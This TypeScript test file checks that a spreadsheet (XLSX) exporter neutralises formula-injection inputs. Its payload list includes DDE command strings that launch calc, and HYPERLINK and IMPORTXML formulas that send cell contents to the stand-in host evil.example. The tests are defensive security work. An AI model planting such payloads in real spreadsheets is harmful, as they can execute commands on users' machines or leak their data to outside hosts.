import { strFromU8 } from 'fflate';
import { expect, test } from 'vitest';
import type { ExportSnapshot } from '../../../src/exporters/export-snapshot';
import { workbookExporter } from '../../../src/exporters/xlsx/workbook-exporter';
import { exampleScenario, exportSnapshot, exportWords, formatOf } from '../snapshots';
import { uncertainty } from '../taken-snapshots';
import { readWorkbook, type ReadWorkbook } from './read-workbook';

/** What has been used against spreadsheets, and what could be mistaken for the file's own text. */
const payloads = [
  `=cmd|' /C calc'!A0`,
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
  '+1+cmd|’/C calc’!A0',
  '-2+3+cmd|x!A0',
  '@SUM(1+1)*cmd|x!A0',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '=1+1";=1+1',
  `'=1+1`,
  '"><f>1+1</f><v>',
  '</t></si><si><t>x',
  '&L&"Arial"&A{=1+1}',
  '[evil.xlsx]Sheet1!A1',
  '\u0000\u0001\u001f=1+1',
  'javascript:alert(1)',
  '\ud83d\ude00 \u202e=1+1',
];

async function exported(snapshot: ExportSnapshot): Promise<ReadWorkbook> {
  const file = await workbookExporter.make(snapshot, await exportWords('en'), formatOf(snapshot));
  return readWorkbook(file.bytes);
}

const harmless = exportSnapshot(
  { ...exampleScenario('b2b'), uncertainty },
  { compared: [exampleScenario('b2c')] },
);
/** Every formula with its place: whatever somebody writes, these stay what they are. */
const formulasOf = ({ sheets }: ReadWorkbook) =>
  [...sheets].flatMap(([sheet, cells]) =>
    [...cells].flatMap(([cell, { formula }]) => (formula === null ? [] : [`${sheet}!${cell}: ${formula}`])),
  );
const expected = formulasOf(await exported(harmless));

test.each(payloads.map((payload) => [JSON.stringify(payload), payload]))(
  '%s stays text',
  async (_, payload) => {
    const written = { name: payload, company: payload, notes: payload };
    const { main, compared } = harmless;
    const ledger = {
      churnNow: {
        value: main.inputs.churnNow,
        supplier: 'prospect',
        note: payload,
        source: payload,
        when: payload,
      },
    } as const;
    const book = await exported({
      ...harmless,
      main: { ...main, ...written, ledger },
      compared: compared.map((scenario) => ({ ...scenario, ...written })),
      link: payload,
      brand: { name: payload, accent: payload },
      modelVersion: payload,
    });
    expect(formulasOf(book)).toEqual(expected);
    // The texts are there, as texts.
    const texts = [...book.sheets.values()].flatMap((cells) => [...cells.values()].map(({ value }) => value));
    const printable = payload.replace(/\p{Cc}/gu, '').trim();
    expect(
      texts.filter((text) => typeof text === 'string' && text.includes(printable)).length,
    ).toBeGreaterThan(2);
    // Nothing leads anywhere but to the published sources.
    const links = Object.entries(book.parts)
      .filter(([path]) => path.endsWith('.rels'))
      .flatMap(([, part]) => [...strFromU8(part).matchAll(/Target="([^"]*)" TargetMode="External"/g)])
      .map(([, target]) => target ?? '');
    for (const target of links) expect(target).not.toMatch(/evil|javascript/);
    // No name of a series is a reference to somebody’s text.
    for (const [path, part] of Object.entries(book.parts))
      if (path.startsWith('xl/charts/'))
        expect(strFromU8(part)).not.toMatch(/<c:f>[^<]*(cmd|HYPERLINK|1\+1)/);
  },
);

test('text that looks like a formula stays text when somebody edits its cell', async () => {
  const book = await exported({ ...harmless, main: { ...harmless.main, name: '=1+1' } });
  const styles = strFromU8(book.parts['xl/styles.xml'] ?? new Uint8Array());
  expect(styles).toContain('quotePrefix="1"');
});

test('a text of any length fits', async () => {
  const notes = '=1+1 '.repeat(20_000);
  const book = await exported({ ...harmless, main: { ...harmless.main, notes } });
  expect(formulasOf(book)).toHaveLength(expected.length);
  const longest = [...(book.sheets.get('Answer')?.values() ?? [])].map(({ value }) => String(value).length);
  expect(Math.max(...longest)).toBe(32_767);
});
